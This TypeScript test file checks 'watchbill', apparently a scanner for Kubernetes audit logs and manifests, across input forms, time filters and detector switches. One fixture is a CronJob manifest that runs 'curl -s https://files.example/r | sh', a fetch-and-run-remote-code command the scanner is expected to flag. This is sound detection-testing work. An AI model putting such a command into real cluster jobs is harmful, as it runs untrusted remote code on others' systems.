import assert from 'node:assert/strict';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { gzipSync, zstdCompressSync } from 'node:zlib';
import { auditEvent } from '../support/signals.ts';
import {
  fileOf,
  harmless,
  linesOf,
  newFolder,
  objectsIn,
  recording,
  suspicious,
  watchbill,
} from './run-watchbill.ts';

const summaryOf = (text: string) => objectsIn(text).at(-1) ?? {};
const idsOf = (text: string) =>
  objectsIn(text)
    .filter(({ type }) => type === 'finding')
    .map(({ id }) => id);
const manifest = `apiVersion: batch/v1
kind: CronJob
metadata: {name: nightly-report, namespace: data}
spec:
  schedule: '*/5 * * * *'
  jobTemplate:
    spec:
      template:
        spec:
          restartPolicy: Never
          containers:
            - {name: report, image: 'alpine:3.20', command: [sh, -c, 'curl -s https://files.example/r | sh']}
`;

describe('inputs', () => {
  const known = idsOf(watchbill(['scan', fileOf(suspicious), '-o', 'ndjson']).out);

  it('standard input, with and without the dash', () => {
    for (const words of [
      ['scan', '-', '-o', 'ndjson'],
      ['scan', '-o', 'ndjson'],
    ]) {
      const { out, code } = watchbill(words, { input: suspicious });
      assert.equal(code, 1);
      assert.deepEqual(idsOf(out).length, known.length);
      assert.match(out, /"file":"-"/);
    }
  });

  it('gzip and zstd, by name or piped', () => {
    for (const bytes of [gzipSync(suspicious), zstdCompressSync(suspicious)]) {
      assert.equal(idsOf(watchbill(['scan', fileOf(bytes, 'log'), '-o', 'ndjson']).out).length, known.length);
      assert.equal(
        idsOf(watchbill(['scan', '-', '-o', 'ndjson'], { input: bytes }).out).length,
        known.length,
      );
    }
  });

  it('the recording from standard input gives what the file gives', () => {
    const piped = watchbill(['scan', '-', '-o', 'ndjson'], { input: readFileSync(recording) });
    const named = watchbill(['scan', recording, '-o', 'ndjson']);
    assert.deepEqual(idsOf(piped.out), idsOf(named.out));
  });

  it('folders and globs, several files, each once', () => {
    const folder = newFolder();
    mkdirSync(join(folder, 'deep'));
    writeFileSync(join(folder, 'a.log'), harmless);
    writeFileSync(join(folder, 'deep/b.log'), suspicious);
    assert.equal(summaryOf(watchbill(['scan', folder, '-o', 'ndjson']).out)['events'], 2);
    const globbed = watchbill(['scan', '**/*.log', join(folder, 'a.log'), '-o', 'ndjson'], { cwd: folder });
    assert.equal(summaryOf(globbed.out)['events'], 2);
  });

  it('a manifest under review, with the place in the file', () => {
    const { out, code } = watchbill([
      'scan',
      fileOf(`# a comment\n---\n${manifest}`, 'cron.yaml'),
      '-o',
      'ndjson',
    ]);
    assert.equal(code, 1);
    assert.match(out, /"level":"manifest"/);
    assert.match(out, /cron\.yaml","line":3/);
  });

  it('manifests piped by kubectl or helm', () => {
    const { code } = watchbill(['scan', '-', '--fail-on', 'high', '--quiet'], { input: manifest });
    assert.equal(code, 1);
  });

  it('--since and --until', () => {
    const early = auditEvent({ requestReceivedTimestamp: '2026-11-22T10:00:00.000000Z', auditID: 'early' });
    const log = fileOf(linesOf(early, auditEvent()));
    const within = watchbill(['scan', log, '--since', '2026-11-23', '-o', 'ndjson']).out;
    assert.ok(!within.includes('"early"') && idsOf(within).length > 0);
    assert.match(within, /1 event was read but not judged: outside --since and --until/);
    const before = watchbill(['scan', log, '--until', '2026-11-22T23:59:59Z', '-o', 'ndjson']).out;
    assert.ok(before.includes('"early"') && idsOf(before).length > 0);
    const both = watchbill([
      'scan',
      log,
      '--since',
      '2026-11-22T12:00:00+00:00',
      '--until',
      '2026-11-22T13:00:00Z',
    ]);
    assert.equal(both.code, 0);
  });

  it('--cluster names the cluster in findings', () => {
    const { out } = watchbill(['scan', fileOf(suspicious), '--cluster', 'north', '-o', 'ndjson']);
    assert.match(out, /"cluster":"north"/);
    assert.notDeepEqual(idsOf(out), known);
  });

  it('an empty input is no clean one: that nothing was read is said', () => {
    assert.match(watchbill(['scan', fileOf('')]).out, /Nothing was read/);
  });
});

describe('detectors can be left out', () => {
  const types = (...words: readonly string[]): ReadonlySet<unknown> =>
    new Set(
      objectsIn(watchbill(['scan', recording, '-o', 'ndjson', '--quiet', ...words]).out)
        .filter(({ type }) => type === 'finding')
        .map(({ detector }) =>
          typeof detector === 'object' && detector !== null && 'type' in detector ? detector.type : '',
        ),
    );

  it('--no-cel, --no-sigma, --no-correlation, --no-anomaly', () => {
    const all = types('--no-anomaly');
    assert.ok(all.has('cel') && all.has('sigma'));
    assert.ok(!all.has('anomaly') && types().has('anomaly'));
    assert.ok(!types('--no-cel').has('cel'));
    assert.deepEqual([...types('--no-sigma', '--no-anomaly')], ['cel']);
    const alone = types('--no-correlation');
    assert.ok(!alone.has('sigma-correlation') && alone.has('sigma'));
  });

  it('steps of a correlation do not fire by themselves when it is left out', () => {
    const steps = watchbill([
      'scan',
      recording,
      '-o',
      'ndjson',
      '--quiet',
      '--no-correlation',
      '--no-cel',
    ]).out;
    assert.ok(!steps.includes('"title":"Step: '));
  });

  it('with none left the run says so', () => {
    const { code, err } = watchbill(['scan', recording, '--no-sigma', '--no-cel', '--no-anomaly']);
    assert.equal(code, 0);
    assert.match(err, /no rule is left/);
  });
});
